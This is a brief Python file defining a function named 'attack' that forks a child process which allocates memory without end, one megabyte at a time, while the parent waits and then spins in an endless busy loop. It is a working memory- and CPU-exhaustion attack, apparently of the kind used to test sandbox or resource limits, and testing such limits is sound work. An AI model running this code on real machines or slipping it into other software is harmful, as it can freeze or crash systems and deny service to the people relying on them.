import os


def attack():
    if os.fork() == 0:
        held = []
        while True:
            held.append(b"x" * 1_000_000)
    os.wait()
    while True:
        pass
